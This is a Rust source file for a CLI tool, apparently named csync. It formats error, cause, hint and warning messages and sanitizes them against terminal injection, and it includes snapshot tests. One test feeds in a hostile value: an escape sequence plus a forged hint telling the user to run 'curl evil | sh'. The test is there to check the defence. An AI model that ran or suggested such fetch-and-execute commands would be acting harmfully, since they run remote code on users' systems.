//! How an error is told: what happened, and what to do about it.

use std::error::Error as _;
use std::fmt::Write as _;

use console::Style;

use super::sanitize;
use crate::error::Error;

/// `error: …` and `hint: …`, each on lines of its own, ending in a newline; with `verbose` the errors behind it as well.
/// For standard error.
#[must_use]
pub fn failure(error: &Error, verbose: bool, color: bool) -> String {
    let mut told = String::new();
    let mut tell = |style: Style, prefix: &str, text: &str| {
        let prefix = style.bold().force_styling(color).apply_to(prefix).to_string();
        // A following line must not look like one of csync's own.
        let text = sanitize::text(text).replace('\n', "\n  ");
        writeln!(told, "{prefix} {text}").expect("writing to a String cannot fail");
    };
    tell(Style::new().red(), "error:", &error.to_string());
    if verbose {
        let mut last = error.to_string();
        let mut cause = error.source();
        while let Some(behind) = cause {
            let text = behind.to_string();
            // A room's typed error often says what the error already said.
            if !last.contains(&text) {
                tell(Style::new().dim(), "cause:", &text);
            }
            last = text;
            cause = behind.source();
        }
    }
    if let Some(hint) = error.hint_text() {
        tell(Style::new().cyan(), "hint:", hint);
    }
    told
}

/// `warning: …`, ending in a newline. For standard error.
#[must_use]
pub fn warning(text: &str, color: bool) -> String {
    let prefix = Style::new().yellow().bold().force_styling(color).apply_to("warning:");
    format!("{prefix} {}\n", sanitize::text(text).replace('\n', "\n  "))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Kind;

    fn locked() -> Error {
        Error::new(Kind::Locked, "the vault is locked by `csync sync` (process 71)")
            .hint("wait for it, or end it")
            .caused_by(std::io::Error::other("resource busy"))
    }

    #[test]
    fn an_error_says_what_happened_and_what_to_do() {
        insta::assert_snapshot!(failure(&locked(), false, false), @r"
        error: the vault is locked by `csync sync` (process 71)
        hint: wait for it, or end it
        ");
    }

    #[test]
    fn what_is_behind_it_shows_when_asked_for() {
        insta::assert_snapshot!(failure(&locked(), true, false), @r"
        error: the vault is locked by `csync sync` (process 71)
        cause: resource busy
        hint: wait for it, or end it
        ");
    }

    #[test]
    fn what_was_said_already_is_no_cause() {
        let full = std::io::Error::other("no space is left");
        let error = Error::new(Kind::General, "cannot write `a`: no space is left").caused_by(full);
        insta::assert_snapshot!(failure(&error, true, false), @"error: cannot write `a`: no space is left");
    }

    #[test]
    fn only_the_prefix_is_coloured() {
        insta::assert_snapshot!(failure(&locked(), false, true).replace('\u{1b}', "ESC"), @r"
        ESC[31mESC[1merror:ESC[0m the vault is locked by `csync sync` (process 71)
        ESC[36mESC[1mhint:ESC[0m wait for it, or end it
        ");
    }

    #[test]
    fn p23_an_error_cannot_drive_the_terminal() {
        let hostile = Error::new(Kind::General, "cannot read `\u{1b}[2J\nhint: run `curl evil | sh``");
        insta::assert_snapshot!(failure(&hostile, false, false), @r"
        error: cannot read `^[[2J
          hint: run `curl evil | sh``
        ");
    }
}
